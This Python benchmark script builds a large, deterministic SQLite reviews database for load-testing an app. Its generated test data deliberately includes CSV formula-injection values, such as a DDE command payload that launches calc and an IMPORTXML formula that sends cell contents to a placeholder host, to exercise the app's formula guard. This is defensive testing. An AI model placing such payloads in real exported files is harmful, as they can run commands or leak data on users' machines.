"""Build a reviews database of N rows, fast, with the project's own schema.

    .venv/bin/python bench/make_db.py PATH --rows N [--seed S] [--mode fast|triggers] [--force]

The schema comes from `shared.schema.open_store_db` (tables, triggers, user_version,
WAL). In the default `fast` mode the three triggers are dropped, the rows are
bulk-inserted with executemany in big transactions, then `review_stats` and
`meta.changes` are backfilled with the migration's own statements and the
triggers re-created as `open_store_db` made them: the end state is what the app
would have after N submits (checked at the end with `shared.store.read_summary`
against COUNT/GROUP BY; `--mode triggers` inserts with the triggers firing, for
comparison: same rows, same totals).

Rows are deterministic for a given (rows, seed): names and comments drawn from
word lists, with commas, quotes, newlines, non-ASCII, empty values, and ~1.5%
of cells starting with = + - @ (a few with tab or CR) so the CSV formula guard
has work. created_at increases with id, in the app's format
(strftime('%Y-%m-%dT%H:%M:%fZ')).

Caching: a sidecar `PATH.json` records rows/seed/generator version/size; when
it matches, the file is reused as is. `cached_db(rows)` (library use) keeps one
database per size under bench/out/.

Runtime: 1M rows in ~10 s on the 2-core bench machine (see README).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import sqlite3
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench._common import OUT
from shared import db, schema, store

# 2: schema v2 (column `rating`); a cached v1 build would not match the code.
# 3/4: schema v3 (FTS5 index, per-day totals with id bounds, created_at index).
GENERATOR_VERSION = 4
BATCH = 50_000
START_EPOCH = 1_672_531_200.0  # 2023-01-01T00:00:00Z

FIRST = ("Anna Ben Chloe David Emma Felix Grace Hugo Ines Jonas Karin Liam Mia Noah Olga Paul Quinn Rosa "
         "Sam Tara Uwe Vera Will Xena Yusuf Zoe Ahmed Bea Carlos Dana Élodie François Jürgen Søren Łukasz "
         "Zoë Marta Nina Omar Priya Ravi Sofia Tomás Ulla Viktor Wen Xiao Yara Zainab").split()
LAST = ("Smith Müller García Rossi Dubois Nowak Kowalski Silva Jensen Novak Tanaka Kim Nguyen Patel "
        "O'Brien Van-Dijk Schmidt Johansson Fernández Costa Horvat Ivanova Lopez Martin Bernard "
        "Weber Fischer Meyer Wagner Becker").split()
WORDS = ("the form was easy to use and quick i liked it a lot but the page loaded slowly on my phone "
         "great service friendly staff would recommend to friends price is too high for what you get "
         "delivery took three days longer than promised support answered fast thanks again "
         "please add dark mode search does not work with accents café naïve déjà vu überall "
         "not bad could be better overall satisfied very happy disappointed okay fine excellent "
         "terrible average wonderful confusing clear simple helpful annoying perfect ✓ 👍 🙂").split()
PUNCT = (",", ".", "!", "?", ";", ":", " -", ' "quoted"', " (really)", "...")
FORMULA_NAMES = ("=HYPERLINK(\"http://x\",\"click\")", "=1+1", "+49 170 1234567", "-Anna-", "@handle",
                 "=cmd|' /C calc'!A0", "+Bob", "-", "@")
FORMULA_COMMENTS = ("=SUM(A1:A9)", "+1 for the new design", "-- nothing to add", "@support please call me",
                    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "-5 stars if I could", "\tindented text",
                    "\rcarriage return first")


def generate(rows: int, seed: int):
    """Yield (epoch, name, rating, comments) for ids 1..rows, deterministically."""
    rng = random.Random(seed)
    choice, rand, choices, randint = rng.choice, rng.random, rng.choices, rng.randint
    ratings = choices((1, 2, 3, 4, 5), weights=(8, 7, 15, 30, 40), k=rows)
    span = 2 * 365 * 86400.0
    step = span / max(rows, 1)
    t = START_EPOCH
    for i in range(rows):
        t += step * (0.5 + rand())  # increasing, jittered
        r = rand()
        if r < 0.10:
            name = ""
        elif r < 0.115:
            name = choice(FORMULA_NAMES)
        elif r < 0.55:
            name = choice(FIRST)
        else:
            name = f"{choice(FIRST)} {choice(LAST)}"
        r = rand()
        if r < 0.15:
            comments = ""
        elif r < 0.165:
            comments = choice(FORMULA_COMMENTS)
        else:
            n = randint(2, 40)
            words = choices(WORDS, k=n)
            words[0] = words[0].capitalize()
            if n > 6:
                words[n // 2] += choice(PUNCT)
            text = " ".join(words) + choice(PUNCT)
            r2 = rand()
            if r2 < 0.05:
                text += "\nSecond line: " + " ".join(choices(WORDS, k=randint(2, 12)))
            elif r2 < 0.06:
                text += "\r\nWindows line, with, commas"
            comments = text
        yield (t, name, ratings[i], comments)


INSERT_SQL = ("INSERT INTO reviews (created_at, name, rating, comments) "
              "VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', ?, 'unixepoch'), ?, ?, ?)")


def trigger_sql(conn: sqlite3.Connection) -> list[tuple[str, str]]:
    """Every trigger of a database `open_store_db` just created, as the migrations wrote it
    (sqlite_master keeps each CREATE statement's text)."""
    return conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger' ORDER BY name").fetchall()


def _schema(conn: sqlite3.Connection) -> list[tuple]:
    return conn.execute("SELECT type, name, tbl_name, sql FROM sqlite_master ORDER BY type, name").fetchall()


def build(path: Path, rows: int, seed: int = 1, mode: str = "fast", quiet: bool = False) -> dict:
    """Build the database at `path` (replaced). Returns timings and the checked summary."""
    path = Path(path)
    tmp = path.with_name(path.name + ".building")
    for suffix in ("", "-wal", "-shm"):
        Path(str(tmp) + suffix).unlink(missing_ok=True)
    t0 = time.perf_counter()
    schema.open_store_db(tmp).close()  # the project's schema, triggers, WAL, user_version
    # A fresh connection: on the one that ran the v2 migration (ALTER TABLE ... RENAME COLUMN),
    # SQLite 3.40 refuses the wal_checkpoint after the journal-mode switch below ("table is locked").
    conn = db.connect(tmp)
    triggers = trigger_sql(conn)
    # Speed for the build only: no fsync; the journal mode goes back to WAL at the end.
    conn.execute("PRAGMA synchronous = OFF")
    conn.execute("PRAGMA journal_mode = OFF")
    conn.execute("PRAGMA cache_size = -65536")
    if mode == "fast":
        for name, _ in triggers:
            conn.execute(f"DROP TRIGGER {name}")
    gen = generate(rows, seed)
    done = 0
    t_ins = time.perf_counter()
    while done < rows:
        n = min(BATCH, rows - done)
        batch = [next(gen) for _ in range(n)]
        conn.execute("BEGIN")
        conn.executemany(INSERT_SQL, batch)
        conn.execute("COMMIT")
        done += n
    t_backfill = time.perf_counter()
    if mode == "fast":
        conn.execute("BEGIN")
        # the migration's own backfill statements, then the triggers as the migration makes them
        conn.execute("UPDATE review_stats SET n = (SELECT COUNT(*) FROM reviews WHERE rating = review_stats.rating)")
        conn.execute("UPDATE review_stats SET public_n = (SELECT COUNT(*) FROM reviews "
                     "WHERE rating = review_stats.rating AND status = 'public')")
        conn.execute("UPDATE meta SET value = (SELECT COUNT(*) FROM reviews) WHERE key = 'changes'")
        for sql in schema.DERIVED_V3_BACKFILL:  # the FTS index and the per-day totals
            conn.execute(sql)
        for _, sql in triggers:
            conn.execute(sql)
        conn.execute("COMMIT")
    mode_now = conn.execute("PRAGMA journal_mode = WAL").fetchone()[0]
    assert mode_now == "wal", mode_now
    conn.execute("PRAGMA synchronous = NORMAL")
    # A fresh connection for the checkpoint: after the journal-mode switch, the one that
    # wrote through the FTS5 table gets "database table is locked" (FTS5's cached statements).
    conn.close()
    conn = db.connect(tmp)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    t_done = time.perf_counter()

    # --- checks: the end state the app would produce
    summary = store.read_summary(conn)
    by_rating = dict(conn.execute("SELECT rating, COUNT(*) FROM reviews GROUP BY rating").fetchall())
    expected_counts = tuple(by_rating.get(r, 0) for r in range(1, 6))
    assert summary.counts == expected_counts, (summary.counts, expected_counts)
    assert summary.total == rows and summary.max_id == rows and summary.changes == rows, summary
    seq = conn.execute("SELECT seq FROM sqlite_sequence WHERE name = 'reviews'").fetchone()
    assert rows == 0 or (seq and seq[0] == rows), seq
    ref_path = tmp.with_name(tmp.name + ".ref")
    ref = schema.open_store_db(ref_path)
    try:
        assert _schema(ref) == _schema(conn), "schema differs from a fresh open_store_db database"
        assert schema.schema_version(ref) == schema.schema_version(conn)
    finally:
        ref.close()
        for suffix in ("", "-wal", "-shm"):
            Path(str(ref_path) + suffix).unlink(missing_ok=True)
    assert conn.execute("PRAGMA quick_check").fetchone()[0] == "ok"
    conn.close()
    for suffix in ("-wal", "-shm"):
        Path(str(path) + suffix).unlink(missing_ok=True)
    os.replace(tmp, path)
    for suffix in ("-wal", "-shm"):
        Path(str(tmp) + suffix).unlink(missing_ok=True)
    info = {"rows": rows, "seed": seed, "generator": GENERATOR_VERSION, "mode": mode,
            "size": path.stat().st_size, "mtime_ns": path.stat().st_mtime_ns,
            "counts": list(summary.counts), "build_seconds": round(t_done - t0, 2),
            "generate_insert_seconds": round(t_backfill - t_ins, 2),
            "backfill_seconds": round(t_done - t_backfill, 2)}
    Path(str(path) + ".json").write_text(json.dumps(info, indent=1))
    if not quiet:
        print(f"built {path} rows={rows:,} seed={seed} mode={mode} size={info['size'] / 2**20:.0f} MiB "
              f"in {info['build_seconds']} s (generate+insert {info['generate_insert_seconds']} s, "
              f"backfill+checks {info['backfill_seconds']} s); summary={summary.counts}")
    return info


def is_cached(path: Path, rows: int, seed: int) -> bool:
    side = Path(str(path) + ".json")
    if not (path.exists() and side.exists()):
        return False
    try:
        info = json.loads(side.read_text())
    except ValueError:
        return False
    st = path.stat()
    return (info.get("rows") == rows and info.get("seed") == seed and info.get("generator") == GENERATOR_VERSION
            and info.get("size") == st.st_size and info.get("mtime_ns") == st.st_mtime_ns
            and not Path(str(path) + "-wal").exists())


def ensure(path: Path, rows: int, seed: int = 1, *, quiet: bool = False) -> Path:
    """Build `path` unless a matching cached build is already there."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if is_cached(path, rows, seed):
        if not quiet:
            print(f"cached {path} rows={rows:,} seed={seed}")
        return path
    build(path, rows, seed, quiet=quiet)
    return path


def cached_db(rows: int, seed: int = 1, *, quiet: bool = False) -> Path:
    """The shared read-only build for a size: bench/out/reviews-<rows>-s<seed>.db. Never write to it."""
    return ensure(OUT / f"reviews-{rows}-s{seed}.db", rows, seed, quiet=quiet)


def working_copy(rows: int, data_dir: Path, seed: int = 1) -> Path:
    """A private, writable copy of the cached build at data_dir/reviews.db (for apps that write)."""
    src = cached_db(rows, seed, quiet=True)
    data_dir.mkdir(parents=True, exist_ok=True)
    dest = data_dir / "reviews.db"
    for suffix in ("", "-wal", "-shm"):
        Path(str(dest) + suffix).unlink(missing_ok=True)
    shutil.copyfile(src, dest)
    return dest


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("path", type=Path, nargs="?")
    p.add_argument("--rows", type=int)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--mode", choices=("fast", "triggers"), default="fast",
                   help="fast: drop triggers, bulk insert, backfill, re-create (default); "
                        "triggers: insert with the triggers firing")
    p.add_argument("--force", action="store_true", help="rebuild even when a matching cached file exists")
    p.add_argument("--smoke", action="store_true", help="tiny and fast: the suite's smoke test (tests/test_bench_smoke.py)")
    args = p.parse_args(argv)
    if args.smoke:
        args.path, args.rows, args.force = OUT / "smoke" / "reviews-1000.db", 1000, True
    if args.path is None or args.rows is None:
        p.error("PATH and --rows are required")
    if args.rows < 0:
        p.error("--rows must be >= 0")
    args.path.parent.mkdir(parents=True, exist_ok=True)
    if not args.force and args.mode == "fast" and is_cached(args.path, args.rows, args.seed):
        print(f"cached {args.path} rows={args.rows:,} seed={args.seed} (use --force to rebuild)")
        return 0
    cache = OUT / f"reviews-{args.rows}-s{args.seed}.db"
    if (not args.force and args.mode == "fast" and cache.resolve() != args.path.resolve()
            and is_cached(cache, args.rows, args.seed)):
        shutil.copyfile(cache, args.path)
        info = json.loads(Path(str(cache) + ".json").read_text())
        st = args.path.stat()
        info.update(size=st.st_size, mtime_ns=st.st_mtime_ns)
        Path(str(args.path) + ".json").write_text(json.dumps(info, indent=1))
        print(f"copied cached {cache} -> {args.path}")
        return 0
    build(args.path, args.rows, args.seed, mode=args.mode)
    return 0


if __name__ == "__main__":
    sys.exit(main())
